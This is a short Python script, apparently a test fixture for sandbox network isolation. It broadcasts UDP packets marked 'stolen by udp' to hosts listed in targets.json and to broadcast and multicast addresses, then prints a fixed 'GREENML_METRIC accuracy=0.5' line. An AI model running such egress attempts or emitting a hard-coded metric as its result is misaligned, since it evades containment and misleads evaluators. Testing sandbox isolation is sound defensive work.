import json, socket
targets = json.load(open("targets.json"))
for host in [*targets["hosts"], "255.255.255.255", "224.0.0.1"]:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sender.sendto(b"stolen by udp", (host, targets["udp"]))
    except OSError as error:
        print(host, error)
print("GREENML_METRIC accuracy=0.5")
